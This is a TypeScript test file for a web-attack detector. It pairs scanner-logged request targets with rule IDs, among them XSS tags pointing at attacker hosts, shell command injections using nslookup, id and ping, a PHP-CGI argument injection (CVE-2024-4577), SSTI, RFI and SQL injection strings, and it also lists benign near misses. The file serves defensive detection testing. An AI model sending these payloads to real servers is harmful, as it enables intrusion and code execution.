import { describe, expect, it } from 'vitest';
import { Detector } from './engine.js';
import type { DetectInput } from './types.js';
import { parseTarget } from '../model/requestRecord.js';

/**
 * Request targets as the 2016 Acunetix and Netsparker scans and CSIC 2010 logged them
 * (../shared/corpus, A_access_logs/ocatak_apache_scanner_*.log and B_labelled_attacks), each
 * with the rule that must flag it; and benign near misses that must raise nothing.
 */
const detector = new Detector();

function request(target: string): DetectInput {
  const t = parseTarget(target);
  return { method: 'GET', host: 'shop.example', path: t.path, query: t.query };
}

function ruleIds(target: string): string[] {
  return detector.detect(request(target)).detections.map((d) => d.ruleId);
}

describe('scanner payloads', () => {
  const cases: [target: string, ruleId: string][] = [
    [
      "/index.php/component/content/category<img%20sRc='http://attacker-9478/log.php%3f/2-uncategorised",
      'xss.tag-remote-src',
    ],
    ['/<a%20HrEF=http://www.vulnweb.com></a>/component/search/', 'xss.tag-remote-src'],
    [
      "/index.php/2-%26nslookup%20A90TQOGX%26'%5c\"`0%26nslookup%20A90TQOGX%26`'/1-testsayfasi",
      'rce.shell-command',
    ],
    ['/%24(nslookup%20wM4jKgxD)/component/content/article/2-uncategorised', 'rce.shell-command'],
    ['/search?q=a%7cnslookup%20xyz.example', 'rce.shell-command'],
    ['/search?q=x%3Bping%20-c%203%20127.0.0.1', 'rce.shell-command'],
    ['/search?q=%60id%60', 'rce.shell-command'],
    ['/search?q=%24(id)', 'rce.shell-command'],
    ['/DVWA/instructions.php?doc=%27%26expr%20268409241%20-%202%20%26%27', 'rce.shell-command'],
    ['/index.php/component/users/?view=set%7cset%26set', 'rce.shell-command'],
    ['/index.php/component/users/?view="%2bresponse.write(9495727*9561186)%2b"', 'rce.code-eval'],
    ['/response.write(9480314*9217198)/component/search/', 'rce.code-eval'],
    ['/DVWA/vulnerabilities/view_help.php?id=%27%2bprint(int)0xFFF9999-22%2b%27', 'rce.code-eval'],
    [
      '/cgi-bin/php4-cgi?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74',
      'rce.php-cgi-args',
    ],
    [
      '/index.php/component/search/?searchword=ul.menu\\u0022onmouseover=kzsy(9580)\\u0022&ordering=popular',
      'xss.event-handler',
    ],
    [
      '/index.php/component/search/?searchword=ul.menuu0022onmouseover=kzsy(9580)u0022&ordering=popular',
      'xss.bare-escape-handler',
    ],
    [
      '/index.php/component/search/?searchword=ul.menu"sTYLe=\'acu:Expre/**/SSion(kzsy(9310))\'bad="',
      'xss.js-sink',
    ],
    [
      '/index.php/component/users/?view=login<%25%20contenteditable%20onresize=Uqla(9827)>',
      'xss.event-handler',
    ],
    ['/index.php?format=%24{9999993%2b9999290}&type=atom', 'ssti.expression'],
    ['/index.php?file=Http://testasp.vulnweb.com/t/fit.txt', 'rfi.include-param-url'],
    ['/DVWA/vulnerabilities/include.php?http://r87.com/?', 'rfi.remote-url-query-end'],
    [
      '/index.php/component/content/?format=http://testasp.vulnweb.com/t/fit.txt%3F.jpg&type=rss',
      'rfi.remote-url-query-end',
    ],
    [
      '/index.php?option=http://testasp.vulnweb.com/t/xss.html%3f%2500.jpg',
      'rfi.remote-url-query-end',
    ],
    ['/index.php?format=Http://testasp.vulnweb.com/t/fit.txt&type=atom', 'scanner.tool-marker'],
    ['/index.php?format=http://hitknOaz89C0Q.bxss.me/&type=atom', 'scanner.oast-domain'],
    [
      '/DVWA/vulnerabilities/view_source.php?id=data%3a%3bbase64%2cTlM3NzU0NTYxNDQ2NTc1',
      'lfi.stream-wrapper',
    ],
    ['/index.php/component/users/?task=!(()%26%26!%7c*%7c*%7c', 'ldapi.filter'],
    [
      '/DVWA/vulnerabilities/view_help.php?id=1%20OR%20X%3d%27ss&security=low',
      'sqli.numeric-string-compare',
    ],
    ['/tienda1/publico/vaciar.jsp?B2=Vaciar+carritoAND+1%3D1', 'sqli.glued-tautology'],
    [
      '/tienda1/publico/entrar.jsp?errorMsg=Credenciales+incorrectasAND+1%3D1',
      'sqli.glued-tautology',
    ],
  ];
  for (const [target, ruleId] of cases) {
    it(`${ruleId} flags ${target}`, () => {
      expect(ruleIds(target)).toContain(ruleId);
    });
  }

  it('reads a php-cgi option string sent with a soft hyphen (CVE-2024-4577)', () => {
    expect(
      ruleIds(
        '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
      ),
    ).toContain('rce.php-cgi-args');
  });
});

describe('benign near misses of the scanner rules', () => {
  const benign = [
    '/blog/android-and-ios',
    '/search?q=rock+and+roll',
    '/search?q=rock%20and%20roll%201%3D1%20fans',
    '/login?next=https://example.com/',
    '/login?return=https://partner.example/account.php',
    '/out?url=http://semicomplete.com/files/rubygems615/java-ssl-debug-last-request.txt',
    '/abp/subscribe?location=https://easylist.to/easylist/easylist.txt&title=EasyList',
    '/redirect?https://example.com/',
    '/docs?title=Terms+AND+Conditions',
    '/docs?title=Brand+1%3D1+guide',
    '/help?q=the+onmouseover+event',
    '/help?q=onmouseover%3D+attribute',
    '/search?q=Tips%3B+PowerShell+for+beginners',
    '/search?q=a%3B+ping+me+later',
    '/search?q=game%2C+set+%26+match',
    '/search?q=Response.Write(name)',
    '/search?q=regular+expression+(regex)',
    '/img?src=data:image/png;base64,iVBORw0KGgo',
    '/DVWA/dvwa/css/?C=N;O=D',
    '/index.php?option=com_content&view=article&id=1&Itemid=2',
    '/index.php/component/search/?searchword=ul.menu&ordering=popular&searchphrase=any',
    '/catalog?q=5+and+size%3D2',
    '/files?path=/docs/readme.txt',
  ];
  for (const target of benign) {
    it(`raises nothing for ${target}`, () => {
      // A URL to another site in next/return/url is redir.offsite-url's to judge, not RFI's.
      const found = detector.detect(request(target)).detections.filter((d) => d.type !== 'redir');
      expect(found).toEqual([]);
    });
  }
});
